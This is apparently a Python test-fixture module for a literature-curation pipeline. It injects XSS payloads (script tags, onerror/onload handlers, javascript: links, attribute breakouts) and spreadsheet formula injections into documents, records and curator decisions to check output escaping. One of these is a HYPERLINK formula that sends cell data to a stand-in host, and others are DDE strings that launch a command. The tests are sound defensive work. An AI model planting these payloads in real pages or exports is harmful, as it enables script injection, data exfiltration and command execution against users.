"""The hostile project's parts: a Markdown document whose headings and claims carry HTML, JavaScript and
spreadsheet formulas, the real shipped records rewritten to carry the same payloads in titles, journals
and author names, and curator decisions with hostile notes and curator names (fixtures: conftest.py)."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from pipeline.jobs import collect, document_run
from pipeline.linking.decisions import Decision, append_decision
from pipeline.literature.acquire import Sources
from pipeline.literature.record_jsonl import iter_jsonl_records
from pipeline.literature.store import RecordStore
from pipeline.models import Author, Journal, Record
from pipeline.outputs.bundle import Alert, CurationRun, RunInfo

DATA = Path(__file__).parents[1] / "data"
WHEN = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)

# Each payload is tagged with a word (XSS1…) so a test can find where it landed in an output.
SCRIPT = '<script>alert("XSS1")</script>'
IMG = '<img src=x onerror=alert("XSS2")>'
SVG = '<svg/onload=alert("XSS3")>'
JS_LINK = '[click](javascript:alert("XSS4"))'
ATTR_BREAK = '" onmouseover="alert(\'XSS5\')" x="'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"XSS6")'
FORMULAS = (FORMULA, "+cmd|' /C calc'!A0 XSS7", "-2+3+cmd|' /C calc'!A0 XSS8", "@SUM(1+1)*XSS9", "\tXSS10")
TAGS = tuple(f"XSS{i}" for i in range(1, 11))

HOSTILE_DOCUMENT = f"""# {SCRIPT} Vitamin K2 and bone

## {FORMULA} Fractures

Vitamin K2 (menatetrenone) reduced vertebral fractures in postmenopausal women with osteoporosis {IMG}.1

{FORMULAS[1]} menatetrenone lowered the hip fracture risk of elderly women in a randomized trial.2

- {FORMULAS[2]} vitamin K2 improved bone mineral density in Chinese postmenopausal women.3
- {FORMULAS[3]} menatetrenone prevented the recurrence of hepatocellular carcinoma after resection.4

## {SVG} Cancer {ATTR_BREAK}

Vitamin K2 inhibited hepatocellular carcinoma cell proliferation {JS_LINK} in cell lines.5

{FORMULAS[4]} vitamin K2 induced apoptosis in human bladder cancer cells via ROS.6
"""
HOSTILE_META = f"title: '{SCRIPT} Vitamin K2'\nsupplement: vitamin K2\norigin_url: 'javascript:alert(1)'\n"


@dataclass(frozen=True)
class HostileRun:
    root: Path
    folder: Path
    bundle: CurationRun
    written: list[Path]


def hostile_record(record: Record, index: int) -> Record:
    """A real record carrying payloads in its title, journal and authors (rotated by `index`)."""
    payload = (SCRIPT, IMG, SVG, ATTR_BREAK, *FORMULAS)[index % 9]
    formula = FORMULAS[index % len(FORMULAS)]
    return record.model_copy(
        update={
            "title": f"{payload} {record.title or 'untitled'}",
            "journal": Journal(title=f"{formula} {SCRIPT} Journal"),
            "authors": [
                Author(last_name=f"{formula}", fore_name=IMG, initials="X"),
                Author(collective_name=f"{SCRIPT} {FORMULAS[3]}"),
            ],
        }
    )


def write_hostile_folder(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "document.md").write_text(HOSTILE_DOCUMENT, encoding="utf-8")
    (folder / "meta.yaml").write_text(HOSTILE_META, encoding="utf-8")


def hostile_records() -> list[Record]:
    with (DATA / "records" / "vitamin-k2-records.jsonl").open(encoding="utf-8") as f:
        return [hostile_record(r, i) for i, r in enumerate(iter_jsonl_records(f, "records"))]


def add_hostile_decisions(folder: Path, claim_id: str, record_id: str) -> None:
    for decision in (
        Decision(action="reject", claim_id=claim_id, record_id=record_id, curator=f"{FORMULAS[3]} {IMG}",
                 note=f"{FORMULA} {SCRIPT}", decided_at=WHEN),
        Decision(action="note", claim_id=claim_id, note=f"{FORMULAS[1]} {JS_LINK} {ATTR_BREAK}",
                 curator=f"{SVG}", decided_at=WHEN),
        Decision(action="note", claim_id="c_0000000000000000", note=f"{FORMULAS[2]} orphan {SCRIPT}",
                 curator=FORMULAS[4], decided_at=WHEN),
    ):  # fmt: skip
        append_decision(folder / "decisions.yaml", decision)


def link_hostile(folder: Path, store: RecordStore) -> CurationRun:
    doc = document_run(folder, store, Sources(), max_bytes=1_000_000, top_k=5, ttl=3600)
    alert = Alert(kind="new_contradiction", document=doc.slug, claim_id=doc.doc.claims[0].claim_id,
                  record_id=doc.links[0].record_id, detail=f"{SCRIPT} {FORMULA}")  # fmt: skip
    doc = doc.model_copy(update={"alerts": [alert]})
    bundle = collect(RunInfo(run_id="run-hostile", started_at=WHEN.isoformat()), [doc], store, Sources())
    return bundle.model_copy(update={"unreachable": {"PubMed": f"HTTP 503: {SCRIPT} {FORMULA}"}})
